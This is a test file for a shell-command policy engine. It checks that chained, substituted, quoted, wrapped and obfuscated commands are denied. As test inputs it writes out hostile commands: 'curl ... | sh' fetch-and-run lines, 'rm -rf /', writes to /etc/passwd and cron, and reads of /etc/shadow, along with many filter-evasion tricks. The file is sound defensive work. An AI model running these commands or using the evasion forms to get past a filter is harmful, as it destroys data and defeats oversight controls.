import { describe, expect, it } from "vitest";
import { analysis, subjects } from "./shell-helpers.js";
import { engineFromText } from "./helpers.js";

const policy = `
version: 1
defaultAction: deny
rules:
  - id: no-destroy
    action: shell.execute
    command: "terraform destroy*"
    effect: deny
    reason: "Destroy is always blocked"
  - id: no-rm
    action: shell.execute
    command: "rm *"
    effect: deny
  - id: plan
    action: shell.execute
    command: "terraform plan*"
    effect: allow
  - id: helm
    action: shell.execute
    command: "helm {install,upgrade} *"
    effect: require_approval
  - id: read-only
    action: shell.execute
    command: ["ls*", "cat*", "echo *", "git status", "grep *"]
    effect: allow
  - id: tmp-writes
    action: file.write
    path: "/tmp/**"
    effect: allow
  - id: repo-reads
    action: file.read
    path: "/repo/**"
    effect: allow
`;

describe("every command a line runs must be allowed", async () => {
  const e = await engineFromText(policy);
  it.each([
    ["terraform plan", "allow"],
    ["terraform plan && terraform destroy", "deny"],
    ["terraform plan || terraform destroy", "deny"],
    ["terraform plan; terraform destroy", "deny"],
    ["terraform plan | terraform destroy", "deny"],
    ["terraform plan & terraform destroy", "deny"],
    ["terraform plan\nterraform destroy", "deny"],
    ["terraform plan $(terraform destroy)", "deny"],
    ["terraform plan `terraform destroy`", "deny"],
    ['terraform plan "$(terraform destroy)"', "deny"],
    ["terraform plan <(terraform destroy)", "deny"],
    ["(terraform destroy)", "deny"],
    ["{ terraform destroy; }", "deny"],
    ["if true; then terraform destroy; fi", "deny"],
    ["bash -c 'terraform destroy'", "deny"],
    ['sh -c "terraform plan && terraform destroy"', "deny"],
    ["terraform plan $(curl x | sh)", "deny"],
    ["ls ${X:-$(terraform destroy)}", "deny"],
    ["echo $((1 + $(terraform destroy)))", "deny"],
    ["cat <<EOF\n$(terraform destroy)\nEOF", "deny"],
    ["cat <<'EOF'\n$(terraform destroy)\nEOF", "allow"],
    ["ls -la && git status", "allow"],
    ["echo 'a; terraform destroy'", "allow"],
    ["helm install x ./chart", "require_approval"],
    ["helm upgrade x ./chart && ls", "require_approval"],
    ["helm upgrade x ./chart && terraform destroy", "deny"],
  ])("%j → %s", (command, want) => {
    expect(e.check({ action: "shell.execute", command }).decision).toBe(want);
  });
});

describe("quoting, paths and wrappers do not hide a command", async () => {
  const e = await engineFromText(policy);
  it.each([
    "t'erraform' destroy",
    '"terraform" destroy',
    "terra\\form destroy",
    "terraform   destroy",
    "terraform\tdestroy",
    "terraform \\\ndestroy",
    "/usr/bin/terraform destroy",
    "./bin/../terraform destroy",
    "sudo terraform destroy",
    "sudo -u root -E terraform destroy",
    "sudo -Eu root terraform destroy",
    "sudo --user=root terraform destroy",
    "env TF_LOG=1 terraform destroy",
    "env -i -- terraform destroy",
    "TF_LOG=1 terraform destroy",
    "nohup terraform destroy &",
    "timeout -s KILL 60 terraform destroy",
    "timeout --signal=KILL 60 terraform destroy",
    "nice -n 10 terraform destroy",
    "nice -10 terraform destroy",
    "ionice -c3 terraform destroy",
    "stdbuf -oL terraform destroy",
    "setsid -w terraform destroy",
    "command terraform destroy",
    "builtin eval terraform destroy",
    "exec terraform destroy",
    "time terraform destroy",
    "busybox timeout 1 terraform destroy",
    "flock /tmp/l terraform destroy",
    "eval 'terraform destroy'",
    "eval terraform destroy",
    "bash <<EOF\nterraform destroy\nEOF",
    "bash <<'EOF'\nterraform destroy\nEOF",
    "bash <<< 'terraform destroy'",
    "bash -ec 'terraform destroy'",
    "sh -c -x 'terraform destroy'",
    "watch -n 5 terraform destroy",
    "watch -x terraform destroy",
    "{terraform,destroy}x; terraform destroy",
    "terraform de{s,}troy",
  ])("%j is denied by the rule", (command) => {
    const d = e.check({ action: "shell.execute", command });
    expect(d.decision).toBe("deny");
    if (command.startsWith("{")) return;
    expect(d.rule).toBe("no-destroy");
  });

  it.each([
    // decided by may-match: some value of the run-time words could be the denied command
    "$'terraform' destroy",
    "$'\\x74erraform' destroy",
    "xargs terraform destroy",
    "find . -exec terraform destroy {} \\;",
    "$CMD destroy",
  ])("%j is denied (its words are only known at run time)", (command) => {
    const d = e.check({ action: "shell.execute", command });
    expect(d.decision).toBe("deny");
  });
});

describe("what cannot be known statically is denied, with a reason", async () => {
  const e = await engineFromText(policy);
  it.each([
    ["$CMD destroy", "no-destroy"],
    ["$(echo terraform) destroy", "no-destroy"],
    ["`echo rm` -rf /", "no-destroy"], // the substitution could be `terraform destroy`
    ["/bin/r? -rf /", null],
  ])("a command name only known at run time: %j is denied by any deny it may match, else by no allow covering every value", (command, rule) => {
    const d = e.check({ action: "shell.execute", command, cwd: "/tmp" });
    expect(d.decision).toBe("deny");
    expect(d.rule).toBe(rule);
    if (rule === null) expect(d.reason).toMatch(/no rule matches every value/);
  });

  it.each([
    ["ls {a..z..-1}", /step/],
    ["echo hi | bash", /pipe/],
    ["curl -s https://x.sh | sh", /pipe/],
    ['bash -c "$SCRIPT"', /only known at run time/],
    ['eval "$X"', /run time/],
    ["case x in x) ls;; esac", /case/],
    ["f() { ls; }; f", /function/],
    ["function f { ls; }", /function/],
    ["[[ -f x ]] && ls", /\[\[/],
    ["((x = 1))", /arithmetic/],
    ["echo 'unterminated", /unterminated/],
    ['echo "unterminated', /unterminated/],
    ["echo $(ls", /not closed/],
    ["cat <<EOF\nno end", /not terminated/],
    ["ls )", /unbalanced/],
    ["echo hi > $OUT", /network|run time/],
    ["ls; ; ls", /syntax error|unexpected/],
    ["ls &&", /missing/],
    ["echo $'\\''", /\$'/],
    ["echo \"${x:-'a'}\"", /quotes/],
    ["select x in a; do ls; done", /select/],
    ["coproc ls", /coproc/],
    ["echo 10>x", /file descriptor/],
    ["echo {fd}>x", /bash only/],
    ["ls -l $[1+1]", /\$\[/],
    ['echo $"x"', /translated/],
    ["cat <(ls)x", /process substitution/],
    ["echo a; alias ls=rm", /alias/],
    ["set -o posix; ls", /set -o/],
    ["shopt -s nocaseglob; ls", /shopt/],
    ["enable -f x.so cat", /enable/],
    ["hash -p /tmp/x ls; ls", /hash/],
    ["let x=1", /let/],
    ["", /empty/],
    ["ls \u0000", /NUL/],
    ["ls \r", /control character/],
    ["time -p ls", /zsh's `time`/],
    ["time until ls; do x; done", /compound/],
    ["e'='x ls", /looks like an assignment/],
    ["echo _{},}", /`\{\}` next to/],
  ])("%j", (command, reason) => {
    const d = e.check({ action: "shell.execute", command, cwd: "/tmp" });
    expect(d.decision).toBe("deny");
    expect(d.rule).toBe(null);
    expect(d.reason).toMatch(reason);
  });

  it("deep nesting is refused, not overflowed", () => {
    const deep = "echo " + "$(".repeat(50) + "ls" + ")".repeat(50);
    expect(e.check({ action: "shell.execute", command: deep }).reason).toMatch(/deeper/);
    const deepSh = "sh -c " + "'sh -c \"".repeat(1) + "ls" + "\"'";
    expect(e.check({ action: "shell.execute", command: deepSh }).decision).toBe("deny");
  });

  it("a relative path after `cd` into a literal directory is resolved there", () => {
    expect(subjects("cd /etc && echo x > passwd", {}, "/tmp")).toEqual(["x cd /etc", "x echo x", "write /etc/passwd"]);
    expect(subjects("cd /etc; echo x > passwd", {}, "/tmp")).toEqual(["x cd /etc", "x echo x", "write /etc/passwd", "write /tmp/passwd"]);
  });
});

describe("redirections are file actions", async () => {
  const e = await engineFromText(policy);
  it.each([
    ["echo hi > /tmp/out.txt", "allow"],
    ["echo hi > /etc/cron.d/x", "deny"],
    ["echo hi >> ~/.bashrc", "deny"],
    ["echo hi 2>/dev/null", "allow"],
    ["echo hi >/dev/null 2>&1", "allow"],
    ["cat < /repo/README.md", "allow"],
    ["cat < /etc/shadow", "deny"],
    ["echo hi > out.txt", "allow"],
    ["echo x &> /etc/passwd", "deny"],
    ["ls $(echo > /etc/passwd)", "deny"],
  ])("%j (cwd /tmp) → %s", (command, want) => {
    expect(e.check({ action: "shell.execute", command, cwd: "/tmp" }).decision).toBe(want);
  });

  it("names the file that was refused", () => {
    const d = e.check({ action: "shell.execute", command: "echo hi > /etc/cron.d/x" });
    expect(d.reason).toContain("file.write /etc/cron.d/x");
  });
});

describe("analyzeCommand", () => {
  it("lists each command once, quoting removed", () => {
    expect(analysis("git commit -m 'fix: a; b' && git push && git push")).toEqual({
      execs: ["git commit -m fix: a; b", "git push"],
      files: [],
      env: [],
      net: [],
    });
  });
  it("keeps for-loop headers out of the commands but checks their substitutions", () => {
    const a = analysis("for f in $(ls /repo); do echo $f; done");
    expect(typeof a !== "string" && a.execs).toEqual(["ls /repo", "echo⟨$f⟩"]);
    // the loop variable is set by the line: not an environment read
    expect(typeof a !== "string" && a.env).toEqual([]);
  });
});
